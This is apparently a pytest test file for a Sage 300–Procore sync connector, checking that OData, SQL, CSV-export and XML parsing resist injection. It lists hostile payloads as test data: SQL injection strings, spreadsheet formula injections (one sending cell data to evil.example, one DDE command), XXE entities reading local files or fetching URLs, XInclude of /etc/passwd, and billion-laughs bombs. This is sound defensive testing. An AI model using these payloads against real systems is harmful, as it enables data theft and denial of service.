"""Injection and parsing: hostile keys stay one OData literal, SQL never runs a value, CSV exports
cannot run formulas in a spreadsheet, and XML is parsed without DTDs, entities or the network."""

from __future__ import annotations

import http.server
import resource
import sqlite3
import threading
import time
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from mlconnector import xmlsafe
from mlconnector.mappings import neutralise_cell, unneutralise_cell
from mlconnector.systems.sage300.client import odata_string

from .conftest import isolated_env, run_child

PAIR = "sage300-procore"

# Keys as a clerk (or an attacker with clerk rights) can type them into Sage 300.
HOSTILE_KEYS = [
    "O'BRIEN",
    "' or 1 eq 1 or '",
    "X' or VendorNumber ne '",
    "%27",
    "A)B",
    "'')",
    "\u2019QUOTE\u2018",  # unicode quotes: not OData quotes, kept as they are
    "K'?#&$filter=1",
]


# --- OData ---------------------------------------------------------------------------------------------


@pytest.fixture
def sage(sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A Sage 300 client on the sandbox, built as the sync builds it."""
    from mlconnector.config import load_config
    from mlconnector.connect import open_client

    config_path = tmp_path / "mlconnector.yaml"
    config_path.write_text(sandbox.config_yaml(tmp_path / "state.db", ("vendors",)), encoding="utf-8")
    for name, value in sandbox.credentials_env().items():
        monkeypatch.setenv(name, value)
    with open_client(load_config(config_path), "sage300") as client:
        yield client


@pytest.mark.parametrize("key", HOSTILE_KEYS)
def test_a_hostile_vendor_key_stays_one_literal_in_the_entity_url(sandbox, sage, key: str) -> None:
    from mlconnector.systems.sage300.readers import get_vendor

    sandbox.sage300.upsert_vendor(VendorNumber=key, VendorName=f"Hostile {key}")
    sandbox.sage300.clear_requests()
    row = get_vendor(sage, key)
    assert row is not None and row["VendorNumber"] == key and row["VendorName"] == f"Hostile {key}"
    (request,) = sandbox.sage300.requests
    assert request.path == f"/Sage300WebApi/v1.0/-/SAMLTD/AP/APVendors({odata_string(key)})"
    assert request.query == ""
    # A key that does not exist is not found, whatever it says.
    assert get_vendor(sage, key + "-NOPE") is None


@pytest.mark.parametrize("number", HOSTILE_KEYS)
def test_a_hostile_po_number_stays_one_literal_in_the_filter(sandbox, sage, number: str) -> None:
    from mlconnector.systems.sage300.readers import PURCHASE_ORDERS, find_document

    vendor = sandbox.sage300.vendors()[0]["VendorNumber"]
    line = {"Contract": "2024-021", "Category": "03-100", "QuantityOrdered": 1, "UnitCost": 5}
    sandbox.sage300.upsert_purchase_order(PurchaseOrderNumber=number, Vendor=vendor, PurchaseOrderLines=[line])
    sandbox.sage300.clear_requests()
    row = find_document(sage, PURCHASE_ORDERS, "PurchaseOrderNumber", number, what="read")
    assert row is not None and row["PurchaseOrderNumber"] == number
    (request,) = sandbox.sage300.requests
    query = parse_qs(request.query, keep_blank_values=True)
    assert query["$filter"] == [f"PurchaseOrderNumber eq {odata_string(number)}"]
    assert query["$top"] == ["2"]
    # The filter matched that one record: the simulator answered with exactly one row.
    assert sandbox.sage300.count("GET", "/Sage300WebApi/v1.0/-/SAMLTD/PO/POPurchaseOrders") == 1
    assert find_document(sage, PURCHASE_ORDERS, "PurchaseOrderNumber", number + "-NOPE", what="read") is None


def test_an_injection_shaped_number_matches_nothing_else(sandbox, sage) -> None:
    from mlconnector.systems.sage300.readers import PURCHASE_ORDERS, find_document

    # Other POs exist; were the quote to end the literal, `or 1 eq 1` would return the first of them.
    assert sandbox.sage300.purchase_orders()
    assert find_document(sage, PURCHASE_ORDERS, "PurchaseOrderNumber", "' or 1 eq 1 or '", what="read") is None
    assert find_document(sage, PURCHASE_ORDERS, "PurchaseOrderNumber", "x') or (1 eq 1", what="read") is None


def test_a_po_with_a_hostile_vendor_key_syncs_through_the_cli(sandbox, tmp_path: Path) -> None:
    """End to end: the PO's vendor is read by key (the vendors stream is off), the key URL holds
    one literal, and the commitment is written for that vendor."""
    from mlconnector.sandbox import DATA_DIR

    key = "' or 1 eq 1 or '"
    sage = sandbox.sage300
    sandbox.procore.set_rate_limits(spike=100_000, hourly=1_000_000)
    for order in sage.purchase_orders():
        sage.delete_purchase_order(order["PurchaseOrderNumber"])
    sage.upsert_vendor(VendorNumber=key, VendorName="Quote Injection Supply")
    sage.upsert_purchase_order(PurchaseOrderNumber="PO-'Q'", Vendor=key, PurchaseOrderLines=[
        {"Contract": "2024-021", "Category": "03-100", "QuantityOrdered": 1, "UnitCost": 5}])
    work = tmp_path / "work"
    work.mkdir()
    (work / "mlconnector.yaml").write_text(sandbox.config_yaml(work / "state.db", ("purchase_orders",)),
                                           encoding="utf-8")
    env = isolated_env(tmp_path, sandbox.credentials_env())
    for name in ("projects.csv", "costcodes.csv"):
        assert run_child(["mappings", "import", str(DATA_DIR / name)], cwd=work, env=env,
                         sleep_log=tmp_path / "s").code == 0
    sage.clear_requests()
    run = run_child(["sync", PAIR], cwd=work, env=env, sleep_log=tmp_path / "s")
    assert run.code == 0, run.output
    vendor_reads = [r for r in sage.requests if "/AP/APVendors" in r.path]
    assert [r.path for r in vendor_reads] == [f"/Sage300WebApi/v1.0/-/SAMLTD/AP/APVendors({odata_string(key)})"]
    vendor = next(v for v in sandbox.procore.vendors() if v.get("origin_code") == key)
    assert vendor["name"] == "Quote Injection Supply"
    (commitment,) = sandbox.procore.commitments()
    assert commitment["number"] == "PO-'Q'" and str(commitment["vendor"]["id"]) == str(vendor["id"])


# --- SQL -----------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    "'); DROP TABLE links;--",
    "\"; DELETE FROM audit; --",
    "x' OR '1'='1",
    "nul\x00inside",
    "K" * 10_000,
    "🏗️ ' \" ; -- /* */ \\",
]


def test_hostile_keys_and_messages_are_stored_and_read_back_intact(tmp_path: Path) -> None:
    from mlconnector.state import open_state

    path = tmp_path / "state.db"
    with open_state(path) as state:
        for i, text in enumerate(HOSTILE_TEXT):
            state.upsert_link(PAIR, "vendors", text, f"{i}-{text}", f"hash-{text}")
            state.add_audit(None, PAIR, "vendors", text, "create", target_id=f"{i}-{text}", message=text,
                            detail={"why": text})
            state.quarantine(PAIR, "purchase_orders", text, payload={"PurchaseOrderNumber": text}, reason=text,
                             run_id=None)
        with state.transaction():
            state.put_mappings(PAIR, "projects", {text: {"procore_project": text, "note": text}
                                                  for text in HOSTILE_TEXT})

    with open_state(path, readonly=True) as state:
        links = {link.source_key: link for link in state.links(PAIR, "vendors")}
        assert set(links) == set(HOSTILE_TEXT)
        for i, text in enumerate(HOSTILE_TEXT):
            assert links[text].target_id == f"{i}-{text}" and links[text].payload_hash == f"hash-{text}"
            assert state.get_link(PAIR, "vendors", text).target_id == f"{i}-{text}"
            (event,) = state.audit(pair=PAIR, stream="vendors", source_key=text)
            assert (event.message, event.detail, event.target_id) == (text, {"why": text}, f"{i}-{text}")
            held = state.find_quarantine(PAIR, "purchase_orders", text)
            assert held is not None and held.reason == text and held.payload == {"PurchaseOrderNumber": text}
        assert state.links_for(PAIR, "vendors", HOSTILE_TEXT).keys() == set(HOSTILE_TEXT)
        assert state.mappings_of(PAIR, "projects") == {t: {"procore_project": t, "note": t} for t in HOSTILE_TEXT}
        # Look-ups by a hostile key find that key only.
        assert state.get_link(PAIR, "vendors", "x' OR '1'='1' OR 'a'='a") is None
        assert state.audit(pair=PAIR, source_key="' OR 1=1 --") == []

    # Every table is still there, holding exactly what was written.
    with sqlite3.connect(path) as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"links", "audit", "quarantine"} <= tables
        assert db.execute("SELECT COUNT(*) FROM links").fetchone()[0] == len(HOSTILE_TEXT)
        assert db.execute("SELECT COUNT(*) FROM audit").fetchone()[0] == len(HOSTILE_TEXT)
        assert db.execute("SELECT COUNT(*) FROM quarantine").fetchone()[0] == len(HOSTILE_TEXT)


# --- CSV export ----------------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+2024-001", "-3", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0", "\tTAB", "\rCR", "'=already quoted", "plain", "a=b", "'plain"]


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_round_trips(value: str) -> None:
    cell = neutralise_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutralise_cell(cell) == value


def test_mappings_export_neutralises_formulas_and_import_round_trips(tmp_path: Path) -> None:
    import csv
    import io

    from mlconnector.state import open_state

    work = tmp_path / "work"
    work.mkdir()
    (work / "mlconnector.yaml").write_text(
        "state: state.db\nsystems:\n  sage300:\n    kind: sage300\n"
        "    url: http://127.0.0.1:9/Sage300WebApi/v1.0/-/SAMLTD\n    username: ADMIN\n"
        "  procore:\n    kind: procore\n    api_url: http://127.0.0.1:9\n    login_url: http://127.0.0.1:9\n"
        "    company_id: 1\npairs:\n  sage300-procore:\n    source: sage300\n    target: procore\n", encoding="utf-8")
    rows = {f"S{i}{v}" if v.startswith(("\t", "\r")) else v: {"procore_project": v.strip() or "x",
                                                               "note": v} for i, v in enumerate(FORMULAS)}
    # Keys and projects as an import can store them (no control characters); notes may hold them.
    rows = {k.replace("\t", "").replace("\r", ""): {"procore_project": p["procore_project"].replace("\t", "")
                                                    .replace("\r", ""), "note": p["note"]}
            for k, p in rows.items()}
    with open_state(work / "state.db") as state, state.transaction():
        state.put_mappings(PAIR, "projects", rows)
    env = isolated_env(tmp_path)
    run = run_child(["mappings", "export", "projects", "--output", "out.csv"], cwd=work, env=env,
                    sleep_log=tmp_path / "s")
    assert run.code == 0, run.output
    exported = (work / "out.csv").read_bytes().decode("utf-8")  # not read_text: it turns CR into LF
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells and "'\tTAB" in cells and "'\rCR" in cells
    assert "''=already quoted" in cells and "'plain" in cells  # one more quote only before a formula

    run = run_child(["mappings", "import", "out.csv", "--offline"], cwd=work, env=env, sleep_log=tmp_path / "s")
    assert run.code == 0, run.output
    with open_state(work / "state.db", readonly=True) as state:
        assert state.mappings_of(PAIR, "projects") == rows  # nothing changed: the import round-trips
    row = next(line for line in run.stdout.splitlines() if "projects" in line)
    assert row.replace("│", " ").split()[-4:] == ["0", "0", str(len(rows)), "0"]


# --- XML -----------------------------------------------------------------------------------------------


class _Listener:
    """An HTTP server that counts requests: an entity fetched over the network would show up here."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                body = b'<!ENTITY leak "LEAKED">'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    server = _Listener()
    yield server
    server.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    return path


def _bomb(levels: int = 10, fan: int = 10) -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * fan}">' for i in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]><lolz>&lol{levels - 1};</lolz>'.encode()


def _hostile_documents(secret: Path, url: str) -> dict[str, bytes]:
    return {
        "external-file-entity": f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><r>&x;</r>'.encode(),
        "external-http-entity": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]><r>&x;</r>'.encode(),
        "parameter-entity-file": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{secret}"> %p;]><r/>'.encode(),
        "parameter-entity-http": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/dtd"> %p;]><r>&leak;</r>'.encode(),
        "external-dtd": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{url}/r.dtd"><r>&leak;</r>'.encode(),
        "public-dtd": f'<!DOCTYPE r PUBLIC "-//X//Y" "{url}/p.dtd"><r/>'.encode(),
        "billion-laughs": _bomb(),
        "quadratic-blowup": ('<!DOCTYPE r [<!ENTITY a "' + "A" * 50_000 + '">]><r>' + "&a;" * 50_000 + "</r>").encode(),
        "internal-entity-only": b'<!DOCTYPE r [<!ENTITY hi "hello">]><r>&hi;</r>',
        "doctype-after-comment": f'<?xml version="1.0"?><!-- x --><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><r>&x;</r>'.encode(),
        "utf16-doctype": f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><r>&x;</r>'.encode("utf-16"),
    }


def test_every_document_with_a_doctype_is_refused_unresolved(secret_file: Path, listener) -> None:
    documents = _hostile_documents(secret_file, listener.url)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for name, data in documents.items():
        start = time.monotonic()
        with pytest.raises(xmlsafe.UnsafeXMLError) as caught:
            xmlsafe.parse(data)
        assert time.monotonic() - start < 1.0, name
        assert isinstance(caught.value, ValueError)
        message = str(caught.value)
        assert "DOCTYPE" in message, (name, message)
        assert "TOP-SECRET" not in message and "lollol" not in message and len(message) < 200
    assert listener.hits == []  # nothing was fetched over the network
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    assert grown_mb < 100, grown_mb


def test_the_parser_itself_resolves_nothing_even_without_the_doctype_check(secret_file: Path, listener) -> None:
    """Defence in depth: were the DOCTYPE check gone, the parser settings alone resolve no
    entity, load no DTD, touch no network and expand no bomb."""
    from lxml import etree

    documents = _hostile_documents(secret_file, listener.url)
    for name, data in documents.items():
        start = time.monotonic()
        try:
            root = etree.fromstring(data, xmlsafe._parser())
        except etree.XMLSyntaxError:
            continue  # refused (the bomb: amplification limit) is fine too
        finally:
            assert time.monotonic() - start < 1.0, name
        text = etree.tostring(root)
        assert b"TOP-SECRET" not in text and b"LEAKED" not in text, name
        assert len(text) < 200_000, name
    assert listener.hits == []


def test_plain_xml_parses_and_garbage_is_a_clear_error() -> None:
    root = xmlsafe.parse(b'<?xml version="1.0"?><!-- c --><r a="1"><v>caf\xc3\xa9 &amp; co</v>'
                         b'<![CDATA[<!DOCTYPE html>]]></r>')
    assert root.tag == "r" and root.findtext("v") == "café & co"
    xinclude = xmlsafe.parse(b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></r>')
    assert len(xinclude) == 1 and b"root:" not in __import__("lxml.etree").etree.tostring(xinclude)
    for bad in (b"", b"<r>", b"not xml", b'{"value": []}', b"<r>&undefined;</r>"):
        with pytest.raises(xmlsafe.XMLParseError) as caught:
            xmlsafe.parse(bad)
        assert isinstance(caught.value, ValueError) and not isinstance(caught.value, xmlsafe.UnsafeXMLError)
    with pytest.raises(TypeError):
        xmlsafe.parse("<r/>")  # type: ignore[arg-type]


def test_deep_nesting_is_refused_in_bounded_time() -> None:
    data = b"<a>" * 100_000 + b"</a>" * 100_000
    start = time.monotonic()
    with pytest.raises(xmlsafe.XMLParseError):
        xmlsafe.parse(data)
    assert time.monotonic() - start < 2.0


def test_no_other_module_parses_xml_directly() -> None:
    """Later integrations (Intacct, SYSPRO) parse XML through mlconnector.xmlsafe only."""
    import re

    root = Path(__file__).resolve().parents[2] / "mlconnector"
    pattern = re.compile(r"etree\.(fromstring|parse|XML|XMLParser|iterparse|XMLPullParser)\b|xml\.(etree|dom|sax)|"
                         r"ElementTree|minidom")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "xmlsafe.py" and pattern.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
